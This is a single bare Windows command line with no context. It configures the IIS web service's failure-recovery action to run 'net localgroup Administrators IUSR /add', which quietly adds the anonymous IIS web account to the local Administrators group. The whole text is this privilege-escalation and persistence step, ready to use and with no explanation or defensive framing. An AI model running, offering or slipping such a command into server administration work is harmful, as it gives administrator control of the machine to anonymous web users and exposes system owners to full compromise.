sc failure W3SVC reset= 0 command= "net localgroup Administrators IUSR /add" actions= run/1000
